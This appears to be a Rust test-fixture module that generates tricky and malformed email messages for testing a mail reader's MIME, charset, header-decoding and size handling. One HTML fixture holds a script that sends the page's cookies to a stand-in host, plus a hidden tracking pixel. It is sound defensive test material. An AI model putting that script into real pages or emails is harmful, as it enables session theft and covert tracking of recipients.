//! A corpus of tricky and hostile mail messages for the mail reader's tests: MIME structures,
//! charsets, RFC 2047 headers, format=flowed, active HTML and malformed or oversized input.
//! Pure std; every message is generated in memory and deterministic.
//!
//! `expect_in_text` is a snippet a correct reader shows in the body text. Where a message is
//! about its headers, the decoded header values are in [`DECODED_HEADERS`]; where it is
//! about what must NOT show, the marker is [`MUST_NOT_SHOW`].

/// One message of the corpus.
pub struct Tricky {
    pub name: &'static str,
    pub raw: Vec<u8>,
    /// A snippet of the body text a correct reader shows; None where nothing specific is
    /// promised (the reader must only not crash, hang or blow up in memory).
    pub expect_in_text: Option<&'static str>,
}

/// Appears only inside `<script>`, `<style>` and HTML comments of "html-only-active-content":
/// a reader that shows it renders code as text.
pub const MUST_NOT_SHOW: &str = "MUST-NOT-SHOW";

/// (message name, header, decoded value) for the RFC 2047 messages.
pub const DECODED_HEADERS: &[(&str, &str, &str)] = &[
    ("rfc2047-b-utf8-subject", "Subject", "Grüße aus Köln"),
    ("rfc2047-q-latin1-from", "From", "Jürgen Müller"),
    ("rfc2047-adjacent-words", "Subject", "Schöne Grüße"),
    ("rfc2047-mixed-charsets", "Subject", "Café und München"),
    ("rfc2047-lowercase-labels", "Subject", "Äpfel & Öl"),
    // Malformed words stay as they are; the plain part around them must survive.
    ("rfc2047-malformed", "Subject", "Hello"),
];

/// The content of the "notes.txt" attachment in "text-attachment-notes".
pub const NOTES_TXT: &str =
    "Line one of the notes\nLine two: Haushaltsplan 2026\nLine three: Ende\n";

/// Standard base64 with padding, CRLF after every 76 characters (RFC 2045).
fn base64_lines(data: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(data.len() * 4 / 3 + data.len() / 38 + 8);
    let mut column = 0;
    for chunk in data.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, &b)| n | (u32::from(b) << (16 - 8 * i)));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
        column += 4;
        if column == 76 {
            out.push_str("\r\n");
            column = 0;
        }
    }
    if column > 0 {
        out.push_str("\r\n");
    }
    out
}

/// Base64 without line breaks, for RFC 2047 B-words.
fn base64_word(data: &[u8]) -> String {
    base64_lines(data).replace("\r\n", "")
}

/// The message text with every "\n" as CRLF (the corpus is written with "\n" for reading).
fn crlf(text: &str) -> Vec<u8> {
    text.replace('\n', "\r\n").into_bytes()
}

fn join(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

/// Deterministic pseudo-random bytes (splitmix64): same `len`, same bytes, on every run.
pub fn big_attachment_bytes(len: usize) -> Vec<u8> {
    let mut state: u64 = 0x4b61_7073_656c_2026;
    let mut out = Vec::with_capacity(len + 8);
    while out.len() < len {
        state = state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        out.extend_from_slice(&(z ^ (z >> 31)).to_le_bytes());
    }
    out.truncate(len);
    out
}

/// multipart/mixed: a short text part and "big.bin", `bytes` of [`big_attachment_bytes`]
/// in base64.
pub fn big_attachment_message(bytes: usize) -> Vec<u8> {
    let head = crlf(
        "From: Alice <alice@corp.test>\n\
         To: Bob <bob@corp.test>\n\
         Subject: Big attachment\n\
         Date: Mon, 02 Feb 2026 10:00:00 +0100\n\
         Message-ID: <big-attachment@corp.test>\n\
         MIME-Version: 1.0\n\
         Content-Type: multipart/mixed; boundary=\"big-boundary\"\n\
         \n\
         --big-boundary\n\
         Content-Type: text/plain; charset=utf-8\n\
         \n\
         See the attached file big.bin.\n\
         --big-boundary\n\
         Content-Type: application/octet-stream; name=\"big.bin\"\n\
         Content-Disposition: attachment; filename=\"big.bin\"\n\
         Content-Transfer-Encoding: base64\n\
         \n",
    );
    let body = base64_lines(&big_attachment_bytes(bytes));
    join(&[&head, body.as_bytes(), b"--big-boundary--\r\n"])
}

const HEAD: &str = "From: Alice <alice@corp.test>\n\
                    To: Bob <bob@corp.test>\n\
                    Date: Mon, 02 Feb 2026 10:00:00 +0100\n\
                    MIME-Version: 1.0\n";

/// A message with the common headers, `extra` headers (each ending in "\n") and a body.
fn simple(extra: &str, body: &[u8]) -> Vec<u8> {
    join(&[&crlf(HEAD), &crlf(extra), b"\r\n", body])
}

fn tiny_png() -> Vec<u8> {
    // A 1x1 PNG: real magic and chunks, so a reader's type sniffing sees an image.
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend_from_slice(
        b"\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89",
    );
    png.extend_from_slice(
        b"\x00\x00\x00\x0dIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\x00\x05\x00\x01\xff\x89\x99=\x1d",
    );
    png.extend_from_slice(b"\x00\x00\x00\x00IEND\xaeB`\x82");
    png
}

/// Every message of the corpus.
pub fn tricky_messages() -> Vec<Tricky> {
    let mut all = Vec::new();
    let mut add = |name, raw, expect_in_text| {
        all.push(Tricky {
            name,
            raw,
            expect_in_text,
        })
    };

    // ---- structure
    add(
        "alternative-text-html",
        simple(
            "Subject: Alternative\nContent-Type: multipart/alternative; boundary=\"alt\"\n",
            &crlf(
                "--alt\n\
                 Content-Type: text/plain; charset=utf-8\n\
                 \n\
                 Plain version of the quarterly report.\n\
                 --alt\n\
                 Content-Type: text/html; charset=utf-8\n\
                 \n\
                 <html><body><p>HTML version of the <b>quarterly</b> report.</p></body></html>\n\
                 --alt--\n",
            ),
        ),
        Some("quarterly report"),
    );

    let png = base64_lines(&tiny_png());
    let nested = format!(
        "--outer\n\
         Content-Type: multipart/alternative; boundary=\"middle\"\n\
         \n\
         --middle\n\
         Content-Type: text/plain; charset=utf-8\n\
         \n\
         Nested plain text body.\n\
         --middle\n\
         Content-Type: multipart/related; boundary=\"inner\"; type=\"text/html\"\n\
         \n\
         --inner\n\
         Content-Type: text/html; charset=utf-8\n\
         \n\
         <p>Nested HTML body with <img src=\"cid:logo@corp.test\" alt=\"logo\"></p>\n\
         --inner\n\
         Content-Type: image/png\n\
         Content-ID: <logo@corp.test>\n\
         Content-Disposition: inline; filename=\"logo.png\"\n\
         Content-Transfer-Encoding: base64\n\
         \n\
         {png}\
         --inner--\n\
         \n\
         --middle--\n\
         \n\
         --outer\n\
         Content-Type: application/pdf; name=\"report.pdf\"\n\
         Content-Disposition: attachment; filename=\"report.pdf\"\n\
         Content-Transfer-Encoding: base64\n\
         \n\
         {pdf}\
         --outer--\n",
        png = png.replace("\r\n", "\n"),
        pdf = base64_lines(b"%PDF-1.4\n% tiny\n%%EOF\n").replace("\r\n", "\n"),
    );
    add(
        "nested-mixed-alternative-related",
        simple(
            "Subject: Nested\nContent-Type: multipart/mixed; boundary=\"outer\"\n",
            &crlf(&nested),
        ),
        Some("Nested plain text body"),
    );

    add(
        "message-rfc822-attachment",
        simple(
            "Subject: Fwd: Inner subject\nContent-Type: multipart/mixed; boundary=\"fwd\"\n",
            &crlf(
                "--fwd\n\
                 Content-Type: text/plain; charset=utf-8\n\
                 \n\
                 See the forwarded message below.\n\
                 --fwd\n\
                 Content-Type: message/rfc822\n\
                 Content-Disposition: attachment; filename=\"inner.eml\"\n\
                 \n\
                 From: Carol <carol@corp.test>\n\
                 To: Alice <alice@corp.test>\n\
                 Subject: Inner subject\n\
                 Date: Sun, 01 Feb 2026 09:00:00 +0100\n\
                 Content-Type: text/plain; charset=utf-8\n\
                 \n\
                 Inner forwarded body.\n\
                 --fwd--\n",
            ),
        ),
        Some("See the forwarded message"),
    );

    let notes = base64_lines(NOTES_TXT.as_bytes()).replace("\r\n", "\n");
    add(
        "text-attachment-notes",
        simple(
            "Subject: Notes\nContent-Type: multipart/mixed; boundary=\"notes\"\n",
            &crlf(&format!(
                "--notes\n\
                 Content-Type: text/plain; charset=utf-8\n\
                 \n\
                 The notes are attached.\n\
                 --notes\n\
                 Content-Type: text/plain; charset=utf-8; name=\"notes.txt\"\n\
                 Content-Disposition: attachment; filename=\"notes.txt\"\n\
                 Content-Transfer-Encoding: base64\n\
                 \n\
                 {notes}\
                 --notes--\n"
            )),
        ),
        Some("The notes are attached"),
    );

    add(
        "rfc2231-filename",
        simple(
            "Subject: RFC 2231\nContent-Type: multipart/mixed; boundary=\"r2231\"\n",
            &crlf(&format!(
                "--r2231\n\
                 Content-Type: text/plain; charset=utf-8\n\
                 \n\
                 The file name of the attachment is encoded (RFC 2231).\n\
                 --r2231\n\
                 Content-Type: application/pdf\n\
                 Content-Disposition: attachment; filename*=UTF-8''Gr%C3%BC%C3%9Fe%20an%20K%C3%B6ln.pdf\n\
                 Content-Transfer-Encoding: base64\n\
                 \n\
                 {}\
                 --r2231--\n",
                base64_lines(b"%PDF-1.4\n%%EOF\n").replace("\r\n", "\n")
            )),
        ),
        Some("The file name of the attachment is encoded"),
    );

    // ---- RFC 2047 headers (decoded values in DECODED_HEADERS)
    let b_subject = format!("=?UTF-8?B?{}?=", base64_word("Grüße aus Köln".as_bytes()));
    add(
        "rfc2047-b-utf8-subject",
        simple(
            &format!("Subject: {b_subject}\nContent-Type: text/plain; charset=utf-8\n"),
            b"Body of the B-encoded subject message.\r\n",
        ),
        Some("Body of the B-encoded subject message"),
    );
    add(
        "rfc2047-q-latin1-from",
        join(&[&crlf(
            "From: =?ISO-8859-1?Q?J=FCrgen_M=FCller?= <juergen@example.org>\n\
                 To: Bob <bob@corp.test>\n\
                 Subject: Q-encoded sender\n\
                 Date: Mon, 02 Feb 2026 10:00:00 +0100\n\
                 MIME-Version: 1.0\n\
                 Content-Type: text/plain; charset=us-ascii\n\
                 \n\
                 Body of the Q-encoded sender message.\n",
        )]),
        Some("Body of the Q-encoded sender message"),
    );
    add(
        "rfc2047-adjacent-words",
        simple(
            // RFC 2047 6.2: the white space between adjacent encoded words is dropped.
            "Subject: =?UTF-8?Q?Sch=C3=B6ne?= \n =?UTF-8?Q?_Gr=C3=BC=C3=9Fe?=\n\
             Content-Type: text/plain; charset=utf-8\n",
            b"Body of the adjacent encoded words message.\r\n",
        ),
        Some("Body of the adjacent encoded words message"),
    );
    add(
        "rfc2047-mixed-charsets",
        simple(
            "Subject: =?UTF-8?Q?Caf=C3=A9?= und =?ISO-8859-1?B?TfxuY2hlbg==?=\n\
             Content-Type: text/plain; charset=utf-8\n",
            b"Body of the mixed charset subject message.\r\n",
        ),
        Some("Body of the mixed charset subject message"),
    );
    add(
        "rfc2047-lowercase-labels",
        simple(
            "Subject: =?utf-8?q?=C3=84pfel_&_?= =?iso-8859-1?b?1mw=?=\n\
             Content-Type: text/plain; charset=utf-8\n",
            b"Body of the lower-case labels message.\r\n",
        ),
        Some("Body of the lower-case labels message"),
    );
    add(
        "rfc2047-malformed",
        simple(
            "Subject: Hello =?UTF-8?X?unknown_encoding?= =?UTF-8?B?!!!notbase64?= =?UTF-8?Q?Gr=C3=BC\n\
             Content-Type: text/plain; charset=utf-8\n",
            b"Body of the malformed encoded words message.\r\n",
        ),
        Some("Body of the malformed encoded words message"),
    );

    // ---- charsets
    add(
        "latin1-8bit-body",
        simple(
            "Subject: Latin-1\nContent-Type: text/plain; charset=ISO-8859-1\n\
             Content-Transfer-Encoding: 8bit\n",
            b"Gr\xfc\xdfe aus Berlin.\r\n",
        ),
        Some("Grüße aus Berlin"),
    );
    add(
        "latin1-quoted-printable",
        simple(
            "Subject: Latin-1 QP\nContent-Type: text/plain; charset=iso-8859-1\n\
             Content-Transfer-Encoding: quoted-printable\n",
            // a soft line break (=) inside a word, and =3D for a literal "="
            b"Gr=FC=DFe aus M=FCn=\r\nchen, 1+1=3D2.\r\n",
        ),
        Some("Grüße aus München, 1+1=2"),
    );
    add(
        "windows-1252-smart-quotes-euro",
        simple(
            "Subject: cp1252\nContent-Type: text/plain; charset=windows-1252\n\
             Content-Transfer-Encoding: 8bit\n",
            b"\x93Zitat\x94 \x96 kostet 5 \x80.\r\n",
        ),
        Some("\u{201c}Zitat\u{201d} \u{2013} kostet 5 \u{20ac}"),
    );
    add(
        "latin1-label-cp1252-bytes",
        // Outlook's habit: 0x80 under an ISO-8859-1 label. WHATWG decodes it as windows-1252
        // (€); a strict reader shows a C1 control. Only the ASCII part is promised.
        simple(
            "Subject: mislabelled\nContent-Type: text/plain; charset=iso-8859-1\n\
             Content-Transfer-Encoding: 8bit\n",
            b"Preis: 10 \x80 netto.\r\n",
        ),
        Some("Preis: 10"),
    );
    add(
        "utf8-body",
        simple(
            "Subject: UTF-8\nContent-Type: text/plain; charset=utf-8\n\
             Content-Transfer-Encoding: 8bit\n",
            "Ελληνικά, 日本語, Ünïcödé and 🎉.\r\n".as_bytes(),
        ),
        Some("日本語"),
    );
    add(
        "unknown-charset-label",
        simple(
            "Subject: unknown charset\nContent-Type: text/plain; charset=x-kapsel-unknown-42\n",
            b"Plain ASCII under an unknown charset label.\r\n",
        ),
        Some("Plain ASCII under an unknown charset label"),
    );
    add(
        "invalid-utf8-8bit",
        simple(
            "Subject: invalid UTF-8\nContent-Type: text/plain; charset=utf-8\n\
             Content-Transfer-Encoding: 8bit\n",
            b"Valid start \xff\xfe then a cut \xc3 and an overlong \xc0\xaf end.\r\n",
        ),
        Some("Valid start"),
    );

    // ---- format=flowed (RFC 3676)
    add(
        "format-flowed",
        simple(
            "Subject: flowed\nContent-Type: text/plain; charset=utf-8; format=flowed\n",
            &crlf(
                "This is a long \n\
                 sentence that was \n\
                 flowed by the sender.\n\
                 \n\
                 > A quoted line that \n\
                 > continues here.\n",
            ),
        ),
        Some("This is a long sentence that was flowed by the sender."),
    );
    add(
        "format-flowed-delsp",
        simple(
            "Subject: flowed delsp\n\
             Content-Type: text/plain; charset=utf-8; format=flowed; delsp=yes\n",
            // DelSp=yes: the one trailing space of a flowed line is removed when joining, so
            // a space between words is sent as two.
            &crlf(
                "The quick brown fox jum \n\
                 ps over the lazy  \n\
                 dog.\n",
            ),
        ),
        Some("The quick brown fox jumps over the lazy dog."),
    );

    // ---- active HTML
    add(
        "html-only-active-content",
        simple(
            "Subject: HTML only\nContent-Type: text/html; charset=utf-8\n",
            &crlf(
                "<!DOCTYPE html>\n\
                 <html><head>\n\
                 <style>/* MUST-NOT-SHOW */ body { background: url(https://tracker.example/bg.png) }</style>\n\
                 <script>document.title = 'MUST-NOT-SHOW'; fetch('https://evil.example/?c=' + document.cookie);</script>\n\
                 </head><body onload=\"alert('MUST-NOT-SHOW')\">\n\
                 <!-- MUST-NOT-SHOW -->\n\
                 <p>Please review the attached budget before Friday.</p>\n\
                 <p><img src=\"https://images.example/logo.png\" alt=\"Company logo\"></p>\n\
                 <p><a href=\"https://intranet.example/budget?id=7\">Budget 2026</a></p>\n\
                 <img src=\"https://tracker.example/open.gif?u=bob%40corp.test\" width=\"1\" height=\"1\" style=\"display:none\">\n\
                 <script type=\"text/javascript\">var x = \"MUST-NOT-SHOW\";</script>\n\
                 </body></html>\n",
            ),
        ),
        Some("Please review the attached budget before Friday."),
    );

    // ---- malformed MIME
    add(
        "missing-closing-boundary",
        simple(
            "Subject: no closing boundary\nContent-Type: multipart/mixed; boundary=\"open\"\n",
            &crlf(
                "--open\n\
                 Content-Type: text/plain; charset=utf-8\n\
                 \n\
                 Text before the missing end boundary.\n",
            ),
        ),
        Some("Text before the missing end boundary"),
    );
    add(
        "boundary-never-appears",
        // Strictly all preamble (no parts); a reader may show it or nothing, but must not fail.
        simple(
            "Subject: boundary never appears\n\
             Content-Type: multipart/mixed; boundary=\"nowhere-to-be-seen\"\n",
            b"Body text without any boundary line.\r\n",
        ),
        None,
    );
    add(
        "bad-base64-attachment",
        simple(
            "Subject: bad base64\nContent-Type: multipart/mixed; boundary=\"bad64\"\n",
            &crlf(
                "--bad64\n\
                 Content-Type: text/plain; charset=utf-8\n\
                 \n\
                 The attachment below is damaged.\n\
                 --bad64\n\
                 Content-Type: application/octet-stream; name=\"broken.bin\"\n\
                 Content-Disposition: attachment; filename=\"broken.bin\"\n\
                 Content-Transfer-Encoding: base64\n\
                 \n\
                 SGVsbG8g!!!d29y*bGQ=\n\
                 ====\n\
                 A\n\
                 --bad64--\n",
            ),
        ),
        Some("The attachment below is damaged"),
    );
    add(
        "bad-base64-text-body",
        simple(
            "Subject: bad base64 text\nContent-Type: text/plain; charset=utf-8\n\
             Content-Transfer-Encoding: base64\n",
            b"SGVsbG8gd29y\xc3\xa4bGQ=\r\n%%%\r\n",
        ),
        None,
    );

    // ---- size and depth
    let mut huge = b"X-Huge: ".to_vec();
    huge.resize(huge.len() + 1_100_000, b'a');
    huge.extend_from_slice(b"\r\n");
    add(
        "header-over-1mb",
        join(&[
            &crlf(HEAD),
            &huge,
            &crlf("Subject: huge header\nContent-Type: text/plain; charset=utf-8\n\n"),
            b"Body after a huge header.\r\n",
        ]),
        Some("Body after a huge header"),
    );

    let mut many = String::with_capacity(10_000 * 24);
    for i in 0..10_000 {
        many.push_str(&format!("X-Line-{i}: value {i}\n"));
    }
    add(
        "10000-header-lines",
        simple(
            &format!("Subject: many headers\n{many}Content-Type: text/plain; charset=utf-8\n"),
            b"Body after ten thousand header lines.\r\n",
        ),
        Some("Body after ten thousand header lines"),
    );

    let depth = 200;
    let mut deep = String::new();
    for level in 0..depth {
        deep.push_str(&format!(
            "--level{level}\nContent-Type: multipart/mixed; boundary=\"level{}\"\n\n",
            level + 1
        ));
    }
    deep.push_str(&format!(
        "--level{depth}\nContent-Type: text/plain; charset=utf-8\n\nThe deepest text.\n--level{depth}--\n"
    ));
    for level in (0..depth).rev() {
        deep.push_str(&format!("--level{level}--\n"));
    }
    add(
        "nested-multipart-200",
        // A reader may stop descending at a depth limit: only "no stack overflow" is promised.
        simple(
            "Subject: 200 levels\nContent-Type: multipart/mixed; boundary=\"level0\"\n",
            &crlf(&deep),
        ),
        None,
    );

    // ---- degenerate
    add(
        "no-headers-blank-first",
        b"\r\nA body with no headers at all.\r\n".to_vec(),
        Some("A body with no headers at all"),
    );
    add(
        "no-headers-plain-text",
        b"Just a line of text, no header, no blank line.\r\nSecond line.\r\n".to_vec(),
        None,
    );
    add(
        "only-headers-no-body",
        crlf("From: Alice <alice@corp.test>\nTo: Bob <bob@corp.test>\nSubject: Only headers\n"),
        None,
    );
    add(
        "nul-bytes",
        simple(
            "Subject: NUL\0bytes\nContent-Type: text/plain; charset=utf-8\n",
            b"Before the NUL\0 and after it.\r\n",
        ),
        Some("Before the NUL"),
    );
    add(
        "lf-only-line-endings",
        b"From: Alice <alice@corp.test>\nTo: Bob <bob@corp.test>\nSubject: LF only\n\
          MIME-Version: 1.0\nContent-Type: multipart/alternative; boundary=\"lf\"\n\n\
          --lf\nContent-Type: text/plain; charset=utf-8\n\nLine endings are bare LF.\n--lf--\n"
            .to_vec(),
        Some("Line endings are bare LF"),
    );
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_matches_known_vectors() {
        for (plain, encoded) in [
            ("", ""),
            ("f", "Zg==\r\n"),
            ("fo", "Zm8=\r\n"),
            ("foo", "Zm9v\r\n"),
            ("foobar", "Zm9vYmFy\r\n"),
        ] {
            assert_eq!(base64_lines(plain.as_bytes()), encoded);
        }
        let lines = base64_lines(&[0u8; 114]);
        assert_eq!(lines.lines().map(str::len).collect::<Vec<_>>(), [76, 76]);
        assert_eq!(base64_word("Grüße".as_bytes()), "R3LDvMOfZQ==");
    }

    #[test]
    fn the_corpus_is_complete_and_deterministic() {
        let a = tricky_messages();
        let b = tricky_messages();
        assert!(a.len() >= 30, "{}", a.len());
        let mut names: Vec<_> = a.iter().map(|t| t.name).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), a.len(), "names are unique");
        assert!(a.iter().zip(&b).all(|(x, y)| x.raw == y.raw));
        for (name, _, _) in DECODED_HEADERS {
            assert!(names.contains(name), "{name}");
        }
        let big = big_attachment_message(100_000);
        assert_eq!(big, big_attachment_message(100_000));
        assert_eq!(big_attachment_bytes(1000).len(), 1000);
        assert!(big.len() > 133_000 && big.ends_with(b"--big-boundary--\r\n"));
    }
}
